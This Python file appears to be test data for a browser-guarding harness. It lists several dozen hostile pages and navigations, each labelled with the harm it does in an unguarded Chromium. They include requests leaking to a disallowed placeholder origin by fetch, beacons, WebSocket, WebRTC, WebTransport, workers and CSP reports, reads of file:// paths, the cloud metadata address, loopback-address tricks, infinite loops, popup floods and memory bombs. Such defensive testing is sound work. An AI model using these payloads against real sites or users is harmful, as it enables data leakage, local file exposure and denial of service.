"""The hostile pages and actions, as data: what is loaded, and what harm it would do.

In a page OTHER is an origin that is not allowed, PLACE its host and port, ALLOWED the page's own
origin, FILE a file of the host. A page that has done its worst sets its title to ``done``.
"""

from __future__ import annotations

from typing import Literal, NamedTuple, TypeAlias

Harm: TypeAlias = Literal["reached", "shown", "left", "endless", "busy", "popups", "memory", "none"]


class Attack(NamedTuple):
    """One attack: ``page`` is loaded from the allowed origin, unless ``goto`` names another address."""

    name: str
    harm: Harm
    """What comes of it in a browser without guards; ``none`` where Chromium itself withstands."""
    page: str = ""
    goto: str = "ALLOWED/pages/NAME"
    click: str = ""
    """What is clicked once the page is there."""
    headers: tuple[tuple[str, str], ...] = ()


def script(text: str) -> str:
    """A page that runs some JavaScript, in which ``sleep`` may be awaited."""
    return (
        "<body><p>a page</p><script>const sleep = (ms) => new Promise((done) => setTimeout(done, ms));\n"
        f"(async () => {{ try {{ {text} }} catch (error) {{ document.body.append(String(error)); }}\n"
        "await sleep(150); document.title = 'done'; })();</script>"
    )


def worker(text: str) -> str:
    """A page that runs some JavaScript in a worker."""
    return script(f"new Worker(URL.createObjectURL(new Blob([{text!r}]))); await sleep(300);")


def markup(text: str) -> str:
    """A page of HTML alone."""
    return f"<body>{text}<script>setTimeout(() => document.title = 'done', 400)</script>"


PEER = """
const peer = new RTCPeerConnection({iceServers: [SERVER]});
peer.createDataChannel("x"); await peer.setLocalDescription(await peer.createOffer()); await sleep(700);
"""
TURN = '{urls: "turn:PLACE?transport=tcp", username: "x", credential: "y"}'
UNENDING = "for (;;);"

OF_THE_SHEET = (
    Attack("other_origin", "reached", goto="OTHER/goto"),
    Attack("redirect", "reached", goto="ALLOWED/redirect?to=OTHER/redirected"),
    Attack("fetch", "reached", script("await fetch('OTHER/fetch', {mode: 'no-cors'});")),
    Attack("fetch_redirect", "reached", script("await fetch('/redirect?to=OTHER/x', {mode: 'no-cors'});")),
    Attack("image", "reached", markup("<img src='OTHER/image'>")),
    Attack("frame", "reached", markup("<iframe src='OTHER/frame'></iframe>")),
    Attack("form", "reached", script(
        "document.body.innerHTML = `<form method=post action='OTHER/form'><input name=a value=b></form>`;"
        "document.forms[0].submit(); await sleep(400);"
    )),
    Attack("beacon", "reached", script("navigator.sendBeacon('OTHER/beacon', 'x'); await sleep(300);")),
    Attack("prefetch", "reached", markup("<link rel=prefetch href='OTHER/prefetch'>")),
    Attack("preconnect", "none", markup("<link rel=preconnect href='OTHER'>")),
    Attack("popup", "reached", script("window.open('OTHER/popup'); await sleep(500);")),
    Attack("web_socket", "reached", script("new WebSocket('ws://PLACE/socket'); await sleep(300);")),
    Attack("stun", "reached", script(PEER.replace("SERVER", '{urls: "stun:PLACE"}'))),
    Attack("service_worker", "reached", script(
        "await navigator.serviceWorker.register('/service_worker.js'); await sleep(800);"
    )),
    Attack("worker", "reached", worker("fetch('OTHER/worker', {mode: 'no-cors'})")),
    Attack("css_import", "reached", markup("<style>@import url('OTHER/style.css');</style>")),
    Attack("file", "shown", goto="file://FILE"),
    Attack("view_source", "shown", goto="view-source:file://FILE"),
    Attack("metadata", "none", goto="http://169.254.169.254/latest/meta-data/"),
    Attack("download", "left", goto="ALLOWED/attachment"),
    Attack("alert", "none", script("alert('x'); confirm('y'); prompt('z');")),
    Attack("before_unload", "none", script(
        "addEventListener('beforeunload', (event) => event.preventDefault()); await sleep(100);"
        "location = '/hello'; await sleep(300);"
    ), click="body"),
    Attack("print", "none", script("print(); print();")),
    Attack("endless_load", "endless", f"<body><p>a page<script>{UNENDING}</script>"),
    Attack("popup_flood", "popups", script("for (let i = 0; i < 40; i++) window.open('/hello');")),
    Attack("memory_bomb", "memory", script(
        "const kept = []; while (kept.length < 200) kept.push(new Array(1e6).fill(0.5));"
    )),
)  # fmt: skip
"""The 26 of the published measurements."""

OUR_OWN = (
    Attack("endless_click", "endless", f"<button onclick='{UNENDING}'>x</button>", click="button"),
    Attack("endless_interval", "endless", markup(
        f"<script>setInterval(() => {{ {UNENDING} }}, 10)</script>"
    )),
    Attack("endless_microtasks", "endless", script("const f = () => Promise.resolve().then(f); await f();")),
    Attack("endless_requests", "endless", script(
        "for (;;) { const x = new XMLHttpRequest(); x.open('GET', '/hello', false); x.send(); }"
    )),
    Attack("endless_dialogs", "endless", script("for (;;) alert('again');")),
    Attack("endless_frames", "endless", markup(f"<iframe srcdoc='<script>{UNENDING}</script>'></iframe>")),
    Attack("slow_answer", "endless", script(
        "const x = new XMLHttpRequest(); x.open('GET', '/slow?seconds=60', false); x.send();"
    )),
    Attack("endless_worker", "busy", worker(UNENDING)),
    Attack("popups_by_links", "popups", script(
        "for (let i = 0; i < 40; i++) { const a = document.createElement('a');"
        "a.href = '/hello'; a.target = '_blank'; a.rel = 'noopener'; document.body.append(a); a.click(); }"
    )),
    Attack("array_bomb", "memory", script(
        "const kept = [];"
        "while (kept.length < 32) { kept.push(new Uint8Array(5e7).fill(1)); await sleep(1); }"
    )),
    Attack("canvas_bomb", "memory", script(
        "const kept = []; while (kept.length < 26) { const c = document.createElement('canvas');"
        "c.width = c.height = 4000; c.getContext('2d').fillRect(0, 0, 4000, 4000); kept.push(c);"
        "await sleep(1); }"
    )),
    Attack("number_address", "reached", goto="http://2130706433:PORT/x"),
    Attack("mapped_address", "reached", goto="http://[::ffff:127.0.0.1]:PORT/x"),
    Attack("name_for_loopback", "reached", goto="http://localhost:PORT/x"),
    Attack("user_in_address", "reached", goto="http://ALLOWED_PLACE@PLACE/x"),
    Attack("meta_refresh", "reached", markup("<meta http-equiv=refresh content='0;url=OTHER/refresh'>")),
    Attack("refresh_header", "reached", markup("x"), headers=(("Refresh", "0;url=OTHER/refresh"),)),
    Attack("preload_header", "reached", markup("x"), headers=(
        ("Link", "<OTHER/x.js>;rel=preload;as=script"),
    )),
    Attack("data_frame", "reached", markup("<iframe src=\"data:text/html,<img src='OTHER/x'>\"></iframe>")),
    Attack("data_page", "none", script("location = `data:text/html,<img src='OTHER/x'>`; await sleep(300);")),
    Attack("data_goto", "reached", goto="data:text/html,<img src='OTHER/x'>"),
    Attack("script_goto", "reached", goto="javascript:fetch('OTHER/x')"),
    Attack("browser_page", "none", goto="chrome://version"),
    Attack("frame_of_file", "none", markup(
        "<iframe src='file://FILE'></iframe><a href='file://FILE'>x</a>"
    ), click="a"),
    Attack("blob_download", "left", script(
        "const a = document.createElement('a'), blob = new Blob(['planted'.repeat(999)]);"
        "a.href = URL.createObjectURL(blob); a.download = 'planted.bin'; a.click(); await sleep(400);"
    )),
    Attack("opener", "reached", script(
        "const w = window.open('about:blank');"
        "w.document.write(`<script>opener.location = 'OTHER/x'<\\/script>`);"
        "await sleep(400);"
    )),
    Attack("popup_fetch", "reached", script(
        "const w = window.open('about:blank'); await w.fetch('OTHER/x', {mode: 'no-cors'});"
    )),
    Attack("frame_peer", "reached", script(
        "const f = document.createElement('iframe'); document.body.append(f);"
        "const {RTCPeerConnection} = f.contentWindow;" + PEER.replace("SERVER", '{urls: "stun:PLACE"}')
    )),
    Attack("sandboxed_peer", "reached", markup(
        "<iframe sandbox='allow-scripts' srcdoc='"
        + script(PEER.replace("SERVER", '{urls: "stun:PLACE"}')).replace("'done'", "`done`")
        + "'></iframe><script>setTimeout(() => document.title = 'late', 900)</script>"
    )),
    Attack("turn", "reached", script(PEER.replace("SERVER", TURN))),
    Attack("event_source", "reached", script("new EventSource('OTHER/events'); await sleep(300);")),
    Attack("web_transport", "reached", script("await new WebTransport('https://PLACE/').ready;")),
    Attack("web_transport_worker", "reached", worker("new WebTransport('https://PLACE/')")),
    Attack("web_socket_worker", "reached", worker("new WebSocket('ws://PLACE/')")),
    Attack("shared_worker", "reached", script(
        "new SharedWorker(URL.createObjectURL(new Blob([\"fetch('OTHER/x', {mode: 'no-cors'})\"])));"
        "await sleep(400);"
    )),
    Attack("secure_web_socket", "reached", script("new WebSocket('wss://PLACE/socket'); await sleep(300);")),
    Attack("secure_goto", "reached", goto="https://PLACE/x"),
    Attack("report", "reached", markup("<img src='/x'>"), headers=(
        ("Content-Security-Policy", "img-src 'none'; report-uri OTHER/report"),
    )),
    Attack("ping", "reached", markup("<a href='/hello' ping='OTHER/ping'>x</a>"), click="a"),
    Attack("module", "reached", script("await import('OTHER/x.js');")),
    Attack("media", "reached", markup("<video src='OTHER/v'></video><audio src='OTHER/a'></audio>")),
    Attack("font", "reached", markup(
        "<style>@font-face { font-family: F; src: url('OTHER/font') } p { font-family: F }</style><p>x</p>"
    )),
    Attack("embedded", "reached", markup("<object data='OTHER/o'></object><embed src='OTHER/e'>")),
    Attack("speculation", "reached", markup(
        '<script type=speculationrules>{"prefetch": [{"source": "list", "urls": ["OTHER/x"], '
        '"eagerness": "immediate"}]}</script>'
    )),
    Attack("last_words", "reached", script(
        "addEventListener('pagehide', () => navigator.sendBeacon('OTHER/last', 'x'));"
        "location = '/hello'; await sleep(300);"
    )),
    Attack("script_address", "reached", markup("<a href=\"javascript:location='OTHER/x'\">x</a>"), click="a"),
    Attack("odd_addresses", "reached", script(
        "for (const path of ['http://OTHER/x', '//PLACE/x', '/\\\\\\\\PLACE/x'])"
        "await fetch(path, {mode: 'no-cors'}).catch(() => 0);"
    )),
    Attack("many_states", "none", script(
        "for (let i = 0; i < 2000; i++) { history.pushState({}, '', '#' + i); } print(); "
        "document.documentElement.requestFullscreen().catch(() => 0);"
    )),
    Attack("huge_page", "none", script("document.body.innerHTML = '<p><b>x</b></p>'.repeat(20000);")),
)  # fmt: skip

ATTACKS = OF_THE_SHEET + OUR_OWN
SERVICE_WORKER = "self.addEventListener('install', () => fetch('OTHER/service', {mode: 'no-cors'}));"
